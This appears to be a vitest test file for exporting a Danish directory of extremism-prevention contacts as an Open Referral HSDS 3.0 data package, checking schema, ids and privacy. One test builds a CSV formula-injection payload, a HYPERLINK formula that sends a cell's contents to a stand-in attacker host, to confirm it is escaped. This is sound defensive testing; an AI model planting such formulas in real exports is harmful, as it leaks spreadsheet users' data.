import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { contactFieldsSchema, type ContactFieldsInput } from "@/lib/admin/contact-schema";
import type { DirectoryContact } from "@/lib/admin/directory-csv";
import { openReferralFiles, uuidV5, type OpenReferralNames } from "@/lib/admin/open-referral";
import hsdsTables from "@/tests/fixtures/open-referral/hsds-3.0-tabular.json";

type HsdsTable = {
  path: string;
  required: string[];
  tabular_required?: string[];
  fields: Record<string, { type: string; format?: string; enum?: string[]; datapackage_type?: string }>;
};
const HSDS = hsdsTables as Record<string, HsdsTable>;

type Resource = {
  name: string;
  path: string;
  schema: {
    fields: { name: string; type: string; description?: string; constraints?: { required?: boolean } }[];
    primaryKey: string;
    foreignKeys?: { fields: string; reference: { resource: string; fields: string } }[];
  };
};

function contact(id: string, fields: Partial<ContactFieldsInput>, retiredAt?: string): DirectoryContact {
  const checked = contactFieldsSchema.parse({
    body: "SSP",
    unit: "municipality:101",
    nameDa: "Københavns Kommune: rådgivning om ekstremisme",
    nameEn: "City of Copenhagen: advice on extremism",
    source: "https://www.kk.dk/ekstremisme",
    sourceDate: "2024-06",
    verifiedAt: "2026-06-01",
    verifiedBy: "Redaktionen",
    ...fields,
  });
  return { id, ...checked, ...(retiredAt ? { retiredAt } : {}) };
}

const CONTACTS = [
  contact("ssp-101", {
    phone: "40 20 71 98",
    url: "https://www.kk.dk/ekstremisme",
    hoursDa: "Hverdage kl. 9–15",
    notes: "Intern: spørg efter Mette",
  }),
  contact("infohus-koebenhavn", {
    body: "INFOHOUSE",
    unit: "district:koebenhavn",
    nameDa: "Infohuset, Københavns Politi",
    nameEn: "Info-House, Copenhagen Police",
    phone: "114",
    email: "infohus@politi.dk",
    source: "https://politi.dk/koebenhavns-politi",
  }),
  contact("viso-hovedstaden", { body: "VISO", unit: "region:hovedstaden", nameDa: "VISO", nameEn: "VISO", url: "https://viso.dk" }),
  contact("ssp-147", {
    unit: "municipality:147",
    nameDa: "SSP Frederiksberg",
    nameEn: "SSP Frederiksberg",
    url: "https://www.frederiksberg.dk",
  }),
  contact("ssp-153", { unit: "municipality:153", nameDa: "SSP Brøndby", url: "https://www.brondby.dk" }, "2026-11-30"),
];

const UNIT_NAMES: Record<string, string> = {
  "municipality:101": "Københavns Kommune",
  "municipality:147": "Frederiksberg Kommune",
  "district:koebenhavn": "Københavns Politi",
  "region:hovedstaden": "Region Hovedstaden",
  national: "Danmark",
};
const NAMES: OpenReferralNames = {
  unit: (unit) => UNIT_NAMES[unit]!,
  body: (body) => `Organet ${body}`,
  bodyDescription: (body) => `Beskrivelse af ${body}`,
};

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-[1-8][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

const files = openReferralFiles(CONTACTS, NAMES);
const dataPackage = JSON.parse(files["datapackage.json"]!) as { profile: string; resources: Resource[] };
const headerOf = (path: string) => (parse(files[path]!, { to_line: 1 }) as string[][])[0]!;
const rowsOf = (path: string) => parse(files[path]!, { columns: true }) as Record<string, string>[];
const table = (name: string) => ({ name, ...HSDS[name]!, header: headerOf(HSDS[name]!.path), rows: rowsOf(HSDS[name]!.path) });
const TABLES = Object.keys(HSDS).map(table);
const idsOf = (name: string) => new Set(table(name).rows.map((row) => row.id));

describe("the directory as an Open Referral HSDS 3.0 data package", () => {
  it("has one CSV file for each table, named as the specification names it, and datapackage.json", () => {
    expect(Object.keys(files).sort()).toEqual([...TABLES.map(({ path }) => path), "datapackage.json"].sort());
  });

  it("uses only columns the specification defines, or x_ extensions that datapackage.json describes", () => {
    for (const { name, path, fields, header } of TABLES) {
      const resource = dataPackage.resources.find((candidate) => candidate.path === path)!;
      for (const column of header) {
        if (column.startsWith("x_")) expect(resource.schema.fields.find((field) => field.name === column)?.description).toBeTruthy();
        else expect(Object.keys(fields), `${name}.${column}`).toContain(column);
      }
    }
  });

  it("fills every required field in every row", () => {
    for (const { name, required, tabular_required = [], header, rows } of TABLES) {
      for (const field of [...required, ...tabular_required]) {
        expect(header, `${name}.${field}`).toContain(field);
        for (const row of rows) expect(row[field], `${name}.${field}`).not.toBe("");
      }
    }
  });

  it("gives every record a unique uuid, and every reference points to a record that is there", () => {
    for (const { name, rows, header } of TABLES) {
      for (const column of header.filter((candidate) => candidate === "id" || candidate.endsWith("_id"))) {
        for (const row of rows) expect(row[column], `${name}.${column}`).toMatch(UUID);
      }
      expect(new Set(rows.map((row) => row.id)).size).toBe(rows.length);
    }
    const organizations = idsOf("organization");
    const services = idsOf("service");
    for (const row of table("service").rows) expect(organizations).toContain(row.organization_id);
    for (const name of ["service_area", "phone", "schedule", "contact"]) {
      for (const row of table(name).rows) expect(services, name).toContain(row.service_id);
    }
  });

  it("keeps to the specification's enums, dates, web addresses and e-mail addresses", () => {
    for (const { name, fields, rows } of TABLES) {
      for (const row of rows) {
        for (const [column, value] of Object.entries(row).filter(([, cell]) => cell !== "")) {
          const field = fields[column];
          if (field?.enum) expect(field.enum, `${name}.${column}`).toContain(value);
          if (field?.datapackage_type === "date") expect(value).toMatch(/^\d{4}-\d{2}-\d{2}$/);
          if (field?.format === "uri") expect(() => new URL(value)).not.toThrow();
          if (field?.format === "email") expect(value).toMatch(/^[^@\s]+@[^@\s]+\.[a-z]+$/);
        }
      }
    }
  });

  it("describes each file in datapackage.json with the columns the file has, its key and its references", () => {
    expect(dataPackage.profile).toBe("tabular-data-package");
    const byName = (a: { name: string }, b: { name: string }) => a.name.localeCompare(b.name);
    expect(dataPackage.resources.map(({ name, path }) => ({ name, path })).sort(byName)).toEqual(
      TABLES.map(({ name, path }) => ({ name, path })).sort(byName),
    );
    for (const { path, header, required, tabular_required = [] } of TABLES) {
      const { schema } = dataPackage.resources.find((resource) => resource.path === path)!;
      expect(schema.fields.map((field) => field.name)).toEqual(header);
      expect(schema.primaryKey).toBe("id");
      for (const field of [...required, ...tabular_required]) {
        expect(schema.fields.find(({ name }) => name === field)?.constraints?.required).toBe(true);
      }
      for (const { fields, reference } of schema.foreignKeys ?? []) {
        expect(header).toContain(fields);
        expect(dataPackage.resources.map(({ name }) => name)).toContain(reference.resource);
      }
    }
  });
});

describe("what the data package says about the directory", () => {
  const services = rowsOf("services.csv");
  const serviceNamed = (name: string) => services.find((service) => service.name === name)!;
  const byService = (path: string, service: string) => rowsOf(path).filter((row) => row.service_id === serviceNamed(service).id);

  it("has one service per active contact, one organization per kind of body, and leaves retired contacts out", () => {
    expect(services.map((service) => service.name).sort()).toEqual(
      ["Infohuset, Københavns Politi", "Københavns Kommune: rådgivning om ekstremisme", "SSP Frederiksberg", "VISO"].sort(),
    );
    expect(rowsOf("organizations.csv").map(({ name, description }) => ({ name, description }))).toEqual([
      { name: "Organet INFOHOUSE", description: "Beskrivelse af INFOHOUSE" },
      { name: "Organet SSP", description: "Beskrivelse af SSP" },
      { name: "Organet VISO", description: "Beskrivelse af VISO" },
    ]);
    expect(Object.values(files).join("\n")).not.toContain("SSP Brøndby");
  });

  it("gives each service its English name, address, source, check date and checker", () => {
    expect(serviceNamed("Infohuset, Københavns Politi")).toMatchObject({
      alternate_name: "Info-House, Copenhagen Police",
      email: "infohus@politi.dk",
      status: "active",
      assured_date: "2026-06-01",
      x_source_url: "https://politi.dk/koebenhavns-politi",
      x_source_date: "2024-06",
      x_verified_by: "Redaktionen",
    });
    expect(serviceNamed("SSP Frederiksberg").alternate_name).toBe("");
  });

  it("writes a number with +45, keeps 114 as it is, and gives the opening hours and the area served", () => {
    expect(byService("phones.csv", "Københavns Kommune: rådgivning om ekstremisme")).toMatchObject([
      { number: "+45 40 20 71 98", type: "voice" },
    ]);
    expect(byService("phones.csv", "Infohuset, Københavns Politi")).toMatchObject([{ number: "114" }]);
    expect(byService("phones.csv", "VISO")).toEqual([]);
    expect(byService("schedules.csv", "Københavns Kommune: rådgivning om ekstremisme")).toMatchObject([
      { description: "Hverdage kl. 9–15" },
    ]);
    expect(byService("service_areas.csv", "Infohuset, Københavns Politi")).toMatchObject([{ name: "Københavns Politi" }]);
    expect(byService("service_areas.csv", "VISO")).toMatchObject([{ name: "Region Hovedstaden" }]);
  });

  it("publishes no administrator's note and no named person", () => {
    expect(Object.values(files).join("\n")).not.toContain("Mette");
    expect(files["contacts.csv"]).toBe("id,service_id,name,email\r\n");
  });

  it("writes UTF-8 without a byte order mark, so that programs read the first column as id", () => {
    for (const { path } of TABLES) expect(files[path]!.startsWith("id,")).toBe(true);
  });

  it("keeps every record's id from one export to the next, whatever else changes in the directory", () => {
    const later = openReferralFiles(
      [contact("ssp-159", { unit: "municipality:159", url: "https://gladsaxe.dk" }), ...CONTACTS].reverse(),
      NAMES,
    );
    const ids = (all: Record<string, string>, path: string) =>
      (parse(all[path]!, { columns: true }) as Record<string, string>[]).map((row) => row.id);
    for (const { path } of TABLES) expect(ids(later, path)).toEqual(expect.arrayContaining(ids(files, path)));
  });
});

describe("the data package opened in a spreadsheet", () => {
  const hostile = contact("ssp-173", {
    unit: "municipality:101",
    nameDa: '=HYPERLINK("https://angriber.example/?"&A1,"Ring her")',
    nameEn: "+SUM(1)",
    phone: "40 20 71 98",
    url: "https://www.kk.dk",
    hoursDa: "@NOW()",
    verifiedBy: "-2+3",
  });
  const hostileFiles = openReferralFiles([hostile], NAMES);
  const cells = (path: string) => parse(hostileFiles[path]!, { columns: true }) as Record<string, string>[];

  it("writes a name, opening hours or checker that starts like a formula with a leading quote, as the contact file does", () => {
    expect(cells("services.csv")).toMatchObject([
      { name: '\'=HYPERLINK("https://angriber.example/?"&A1,"Ring her")', alternate_name: "'+SUM(1)", x_verified_by: "'-2+3" },
    ]);
    expect(cells("schedules.csv")).toMatchObject([{ description: "'@NOW()" }]);
  });

  it("leaves no cell of any file starting like a formula but the phone numbers, which stay as numbers", () => {
    expect(cells("phones.csv")).toMatchObject([{ number: "+45 40 20 71 98" }]);
    for (const path of Object.keys(hostileFiles).filter((name) => name.endsWith(".csv"))) {
      for (const row of cells(path)) {
        for (const [column, cell] of Object.entries(row)) {
          if (!(path === "phones.csv" && column === "number")) expect(cell, `${path} ${column}`).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    }
  });
});

describe("name-based uuids", () => {
  it("match the version 5 uuids of RFC 9562, as Python's uuid module gives them", () => {
    const dns = "6ba7b810-9dad-11d1-80b4-00c04fd430c8";
    const url = "6ba7b811-9dad-11d1-80b4-00c04fd430c8";
    // uuid.uuid5(uuid.NAMESPACE_DNS, "python.org"), the example in Python's documentation.
    expect(uuidV5("python.org", dns)).toBe("886313e1-3b8a-5372-9b90-0c9aee199e5d");
    // uuid.uuid5(uuid.NAMESPACE_URL, "https://henvis.dk/æøå"): the name is hashed as UTF-8.
    expect(uuidV5("https://henvis.dk/æøå", url)).toBe("38eca7eb-ae8e-5ff5-b08e-009aa3d26237");
  });
});
